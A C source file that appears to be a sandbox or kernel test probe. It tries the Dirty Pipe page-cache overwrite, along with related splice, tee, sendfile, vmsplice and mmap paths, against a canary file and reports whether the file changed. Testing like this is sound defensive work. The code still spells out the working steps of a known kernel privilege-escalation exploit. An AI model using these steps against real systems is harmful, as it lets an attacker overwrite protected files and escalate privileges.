#include "probe.h"
#include <sys/sendfile.h>
int main() {
    char path[512], before[4096], after[4096];
    snprintf(path, sizeof path, "%s/page", setting("RUNLOG_CANARY_TREE"));
    int file = open(path, O_RDONLY), ends[2], others[2], sockets[2];
    if (file < 0 || pread(file, before, 4096, 0) != 4096 || pipe(ends) || pipe(others)) return 1;
    socketpair(AF_UNIX, SOCK_STREAM, 0, sockets);
    /* The way of Dirty Pipe: a pipe whose buffers may be merged, and a page of the file in it. */
    for (int i = 0; i < 16; i++) if (write(ends[1], after, 4096) != 4096) return 2;
    for (int i = 0; i < 16; i++) if (read(ends[0], after, 4096) != 4096) return 2;
    loff_t at = 1;
    TRY("splice", splice(file, &at, ends[1], 0, 1, 0));
    if (write(ends[1], "overwritten", 11) != 11) return 3;
    TRY("tee", tee(ends[0], others[1], 4096, SPLICE_F_NONBLOCK));
    at = 0;
    TRY("sendfile", sendfile(others[1], file, &at, 4096));
    TRY("splice_socket", splice(ends[0], 0, sockets[0], 0, 12, SPLICE_F_MOVE));
    struct iovec part = {before, 4096};
    CALL(vmsplice, ends[1], &part, 1, 8);
    void *shared = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    TRY("map_writable", shared == MAP_FAILED ? -1 : 0);
    at = 0;
    TRY("splice_into", splice(others[0], 0, file, &at, 4096, SPLICE_F_NONBLOCK));
    puts(pread(file, after, 4096, 0) == 4096 && !memcmp(before, after, 4096) ? "unchanged" : "OPEN changed");
    return 0;
}
